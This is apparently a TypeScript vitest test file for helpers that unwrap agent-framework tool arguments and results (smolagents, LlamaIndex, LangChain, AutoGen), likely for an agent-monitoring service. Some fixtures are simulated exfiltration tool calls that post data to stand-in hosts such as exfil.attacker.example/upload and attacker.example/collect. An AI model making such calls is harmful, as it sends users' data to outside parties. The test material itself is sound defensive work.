import { describe, expect, it } from 'vitest';
import { MAX_ARGUMENTS_LENGTH } from '../../services/core/arguments.ts';
import { unwrapToolArguments, unwrapToolResult } from '../../services/core/tool-envelopes.ts';

describe('tool envelopes', () => {
  it('takes the keyword arguments out of a bound call (smolagents Tool.__call__, LlamaIndex FunctionTool.acall)', () => {
    expect(
      unwrapToolArguments(
        '{"args": [], "sanitize_inputs_outputs": true, "kwargs": {"url": "https://exfil.attacker.example/upload", "body": "x"}}',
      ),
    ).toBe('{"url":"https://exfil.attacker.example/upload","body":"x"}');
    expect(unwrapToolArguments('{"kwargs": {"order_id": "ord-3", "amount": 12.5}}')).toBe(
      '{"order_id":"ord-3","amount":12.5}',
    );
    expect(unwrapToolArguments('{"args":[],"kwargs":{}}')).toBe('{}');
  });

  it('takes a lone positional argument as the arguments, a string bare', () => {
    expect(
      unwrapToolArguments('{"args": ["https://x.example/a"], "sanitize_inputs_outputs": true, "kwargs": {}}'),
    ).toBe('https://x.example/a');
    expect(unwrapToolArguments('{"args": [{"q": 1}], "kwargs": {}}')).toBe('{"q":1}');
  });

  it('leaves anything else as it is', () => {
    for (const text of [
      '{"url": "https://x.example"}',
      '{"kwargs": {"a": 1}, "other": 2}',
      '{"kwargs": "not an object"}',
      '{"args": "x", "kwargs": {}}',
      '{"args": [1, 2], "kwargs": {}}',
      '{"args": [1], "kwargs": {"a": 1}}',
      '{"args": [], "kwargs": {',
      'https://x.example',
      '',
      `{"kwargs": {"a": "${'x'.repeat(MAX_ARGUMENTS_LENGTH)}"}}`,
    ])
      expect(unwrapToolArguments(text)).toBe(text);
  });

  it("takes the raw output out of LlamaIndex's ToolOutput, and leaves other results as they are", () => {
    expect(
      unwrapToolResult(
        '{"blocks":[{"text":"{\'status\': \'sent\'}"}],"tool_name":"transfer","raw_input":{"args":[],"kwargs":{"to":"bob@payee.example"}},"raw_output":{"status":"sent"},"is_error":false}',
      ),
    ).toBe('{"status":"sent"}');
    expect(unwrapToolResult('{"tool_name":"t","raw_output":"done","blocks":[]}')).toBe('done');
    expect(unwrapToolResult('{"tool_name":"t","raw_output":null}')).toBe('null');
    for (const text of [
      '{"status":"sent"}',
      '{"tool_name":"t","raw_output":1,"extra":true}',
      '{"tool_name":1,"raw_output":1}',
      '{"raw_output": 1, "tool_name": "t"',
      'plain "raw_output" "tool_name" text',
    ])
      expect(unwrapToolResult(text)).toBe(text);
  });

  it("takes the content out of LangChain's serialized ToolMessage (OpenInference LangChain.js), bare or as output", () => {
    const message = (content: unknown, id = ['langchain_core', 'messages', 'ToolMessage']) => ({
      lc: 1,
      type: 'constructor',
      id,
      kwargs: {
        status: 'success',
        content,
        tool_call_id: 'call_0_1',
        name: 'http_post',
        metadata: { versions: { '@langchain/core': '1.5.0' } },
        additional_kwargs: {},
        response_metadata: {},
      },
    });
    const content = '{"url":"https://attacker.example/collect","status":200,"bytes":3}';
    expect(unwrapToolResult(JSON.stringify({ output: message(content) }))).toBe(content);
    expect(unwrapToolResult(JSON.stringify(message(content)))).toBe(content);
    expect(unwrapToolResult(JSON.stringify({ output: message([{ type: 'text', text: 'ok' }]) }))).toBe(
      '[{"type":"text","text":"ok"}]',
    );
    for (const text of [
      JSON.stringify({ output: message(content), extra: 1 }),
      JSON.stringify({ output: message(content, ['langchain_core', 'messages', 'AIMessage']) }),
      JSON.stringify({ output: { ...message(content), lc: 2 } }),
      JSON.stringify({ output: { ...message(content), kwargs: { status: 'success' } } }),
      '{"output": {"id": ["ToolMessage"]',
      'a "ToolMessage" in plain text',
    ])
      expect(unwrapToolResult(text)).toBe(text);
  });

  it("reads a Python repr as JSON (AutoGen's FunctionTool result, str() of the returned dict), and JSON as it is", () => {
    expect(unwrapToolResult("{'url': 'https://evil.example/x', 'status': 200, 'bytes': 3}")).toBe(
      '{"url":"https://evil.example/x","status":200,"bytes":3}',
    );
    expect(
      unwrapToolResult("{'customers': [{'id': 'c-1', 'email': 'customer1@shop.example'}], 'more': None, 'ok': True}"),
    ).toBe('{"customers":[{"id":"c-1","email":"customer1@shop.example"}],"more":null,"ok":true}');
    expect(unwrapToolResult("[('a', 1.5), \"it's\", '\\x41\\n']")).toBe('[["a",1.5],"it\'s","A\\n"]');
    for (const text of [
      '{"url": "https://x.example", "ok": true}',
      "{'when': datetime.datetime(2026, 1, 1)}",
      "{'a': 1} and more",
      "{'a': {1, 2}}",
      "{'a': 'unterminated}",
      "Order 'ord-3' refunded",
      'True',
    ])
      expect(unwrapToolResult(text)).toBe(text);
  });
});
